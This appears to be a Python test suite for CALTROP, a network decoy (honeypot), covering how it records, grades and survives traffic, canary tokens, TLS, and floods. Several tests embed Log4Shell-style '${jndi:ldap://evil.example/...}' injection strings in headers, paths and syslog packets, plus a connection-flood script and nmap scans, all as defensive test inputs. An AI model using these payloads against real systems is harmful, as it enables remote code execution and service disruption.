"""What a decoy records and survives: test_decoy_stands.py CALTROP"""
import json
import sys

from decoy_case import CALTROP, Decoy, DecoyCase, ldap_search, main, run, until

# Requests whose client does not wait: sent and closed at once. argv: host, port, how many.
FIRE = """
import socket, sys
host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
for i in range(n):
    s = socket.create_connection((host, port))
    s.sendall(b"GET /%d HTTP/1.1\\r\\nHost: x\\r\\nX-Api-Version: ${jndi:ldap://evil.example/a%d}\\r\\n\\r\\n" % (i, i))
    s.close()
"""


class Stands(DecoyCase):
    def fire(self, n, port=8080):
        self.network.on(self.peer, sys.executable, "-c", FIRE, "10.9.0.1", port, n)

    def test_five_thousand_that_do_not_wait(self):
        decoy = self.decoy()
        self.fire(5000)
        decoy.quiet()
        decoy.stop()
        grades = {}
        for contact in decoy.contacts():
            path = contact.get("url", {}).get("original")
            if path:
                grades[path] = (contact["caltrop"]["grade"], contact["caltrop"]["normal"])
        self.assertEqual(grades, {f"/{i}": ("exploit", "${jndi:ldap://evil.example/a%d}" % i) for i in range(5000)})
        self.assertEqual([a["caltrop"]["news"] for a in decoy.actors()].count("new"), 1)
        for text in (self.folder / "events", self.folder / "data/decoy/contacts.ndjson"):
            self.assertNotIn("${", text.read_text())

    def test_a_firewall_that_keeps_peers_out_is_named(self):
        self.network.on(self.host, "nft", "add table inet fw; add chain inet fw in { type filter hook input priority 0; policy drop; }; add rule inet fw in iif lo accept")
        decoy = Decoy(self.network, self.folder)
        self.decoys.append(decoy)
        until("it knows that it is deaf", lambda: "deaf" in decoy.states())
        self.assertIn("a firewall on this host (INPUT) drops it. Prove it from a peer: nc -zv -w 3 10.9.0.1", decoy.said())
        self.assertNotIn("alive", decoy.states())
        self.network.on(self.host, "nft", "delete table inet fw")
        until("it hears again", lambda: "alive" in decoy.states())
        decoy.stop()

    def test_a_full_disk(self):
        small = self.folder / "small"
        small.mkdir()
        self.network.on(self.host, "mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", small)  # it is seen there alone, and gone with it
        decoy = self.decoy("--record", small / "contacts")
        self.fire(300)
        decoy.quiet()
        counts = until("the disk is full", lambda: (lambda c: c if c["records_waiting"] else None)(decoy.counts()))
        self.assertEqual(counts["records_lost_total"], 0)
        # The alert goes out all the same.
        until("the alert", lambda: any(a["caltrop"].get("grade") == "exploit" for a in decoy.actors()))
        self.fire(5000)
        counts = until("loss is counted", lambda: (lambda c: c if c["records_lost_total"] else None)(decoy.counts()))
        decoy.quiet()
        self.network.on(self.host, "mount", "-o", "remount,size=64m", small)
        until("what waited is written", lambda: decoy.counts()["records_waiting"] == 0)
        counts = decoy.counts()
        decoy.stop()
        lines = self.network.on(self.host, "cat", small / "contacts").split("\n")[:-1]
        self.assertEqual(len([json.loads(line) for line in lines]), counts["records_written_total"])

    def test_the_file_is_rotated(self):
        decoy = self.decoy()
        self.says(self.peer, "10.9.0.1", 8080, b"GET /one HTTP/1.0\r\n\r\n")
        path = self.folder / "data/decoy/contacts.ndjson"
        until("the first", lambda: "/one" in path.read_text())
        path.rename(path.with_suffix(".1"))
        until("a new file", path.exists)
        self.says(self.peer, "10.9.0.1", 8080, b"GET /two HTTP/1.0\r\n\r\n")
        until("the second", lambda: "/two" in path.read_text())
        decoy.stop()

    def test_an_interface_that_goes_and_comes(self):
        decoy = self.decoy()
        self.network.on(self.host, "ip", "link", "del", "br0")
        self.network.on(self.host, "ip", "addr", "add", "10.9.0.1/24", "dev", "v0")
        self.network.on(self.host, "ip", "addr", "add", "10.9.0.77/24", "dev", "v0")
        self.network.on(self.host, "ip", "link", "set", "v0", "up")
        until("it answers", lambda: "HTTP/1.1" in self.says(self.peer, "10.9.0.77", 8080, b"GET / HTTP/1.0\r\n\r\n"))
        self.nmap("-sS", "-p", "1234", target="10.9.0.77")
        until("the new address is known", lambda: decoy.counts()["touches_total"] > 1)
        decoy.quiet()
        decoy.stop()
        self.assertIn("1234", decoy.actors("10.9.0.2")[-1]["caltrop"]["tcp"]["ports"])

    def test_a_canary_names_who_called(self):
        minted = run(CALTROP, "decoy", "canary", "web-1.login", "10.9.0.1:389", "--data-dir", self.folder / "data").strip()
        self.assertRegex(minted, r"^\$\{jndi:ldap://10\.9\.0\.1:389/web-1\.login-[0-9a-f]{16}\}$")
        name = minted[minted.rindex("/") + 1:-1]
        decoy = self.decoy()
        self.says(self.peer, "10.9.0.1", 389, ldap_search(name[:-1] + ("0" if name[-1] != "0" else "1")))
        self.says(self.peer, "10.9.0.1", 389, ldap_search(name))
        until("it is told", lambda: [e for e in decoy.events() if e["event"]["action"] == "canary-called"])
        decoy.stop()
        called = [e for e in decoy.events() if e["event"]["action"] == "canary-called"]
        self.assertEqual([(e["source"]["ip"], e["caltrop"]["canary"]) for e in called], [("10.9.0.2", "web-1.login")])
        self.assertIn("10.9.0.2 evaluated the canary web-1.login: it is vulnerable", called[0]["message"])

    def test_inside_tls(self):
        decoy = self.decoy()
        page = self.network.on(self.peer, "curl", "-sk", "-m", "60", "-A", "${jndi:ldap://evil.example/tls}", "https://10.9.0.1:8443/in")
        self.assertIn("<html", page.lower())
        until("it is recorded", lambda: any(c.get("url", {}).get("original") == "/in" for c in decoy.contacts()))
        decoy.stop()
        contacts = [c for c in decoy.contacts() if c["destination"]["port"] == 8443]
        self.assertTrue(any(c.get("tls", {}).get("client", {}).get("ja4", "").startswith("t13") for c in contacts), contacts)
        self.assertTrue(any(c["caltrop"].get("grade") == "exploit" for c in contacts))

    def test_a_quiet_start_learns_what_is_usual(self):
        learned = self.folder / "data/decoy/background"
        decoy = self.decoy("--quiet-start", "1h")
        for _ in range(3):
            self.says(self.peer, "10.9.0.1", 8080, b"GET /health HTTP/1.0\r\n\r\n")
        until("it is listed", lambda: learned.exists() and "learned" in learned.read_text())
        decoy.stop()
        self.assertEqual(decoy.actors(), [])
        self.assertRegex(learned.read_text(), r"(?m)^learned +10\.9\.0\.2 tcp/8080 count=\d+")
        self.assertEqual(len([c for c in decoy.contacts() if c.get("url")]), 3)  # recorded all the same
        decoy = self.decoy()
        self.says(self.peer, "10.9.0.1", 8080, b"GET /health HTTP/1.0\r\n\r\n")
        decoy.quiet()
        self.assertEqual(decoy.actors(), [])
        self.says(self.peer, "10.9.0.1", 8080, b"GET /${jndi:ldap://evil.example/a} HTTP/1.0\r\n\r\n")
        until("a payload is never background", lambda: any(a["caltrop"].get("grade") == "exploit" for a in decoy.actors()))
        decoy.stop()

    def test_an_ignore_list(self):
        rules = self.folder / "ignore"
        rules.write_text("10.9.0.2 tcp/1-2000  # our own scanner\n")
        decoy = self.decoy("--observe", "--ignore", rules)
        self.nmap("-sS", "-p", "1-2000")
        decoy.quiet()
        self.assertGreaterEqual(decoy.counts()["ignored_total"], 2000)
        self.assertEqual(decoy.actors(), [])
        self.nmap("-sS", "-p", "2001")
        until("what no rule names", lambda: decoy.actors("10.9.0.2"))
        decoy.stop()

    def test_udp_with_a_payload(self):
        decoy = self.decoy("--observe")
        self.network.on(self.peer, sys.executable, "-c", "import socket; s=socket.socket(2, 2); s.sendto(b'<13>${jndi:ldap://evil.example/u}', ('10.9.0.1', 514))")
        until("it is told", lambda: any(a["caltrop"].get("grade") == "exploit" for a in decoy.actors()))
        decoy.stop()
        self.assertEqual([c["caltrop"]["grade"] for c in decoy.contacts()], ["exploit"])

    def test_nonsense_and_floods(self):
        """Half-open TLS, garbage, connections that say nothing: it goes on, and everybody is counted."""
        decoy = self.decoy()
        code = """
import os, socket, sys
socks = []
for i in range(600):
    s = socket.create_connection(("10.9.0.1", (8443, 8080, 22, 389)[i % 4]))
    if i % 3 == 0: s.sendall(b"\\x16\\x03\\x01\\x02\\x00\\x01")
    if i % 3 == 1: s.sendall(os.urandom(2000))
    socks.append(s)
"""
        self.network.on(self.peer, sys.executable, "-c", code)
        decoy.quiet()
        counts = decoy.counts()
        self.assertGreaterEqual(counts["connections_total"], 600)
        self.assertLessEqual(counts["tls_sessions"], 200)
        self.assertIn("HTTP/1.1", self.says(self.peer, "10.9.0.1", 8080, b"GET / HTTP/1.0\r\n\r\n"))
        decoy.stop()


if __name__ == "__main__":
    main()
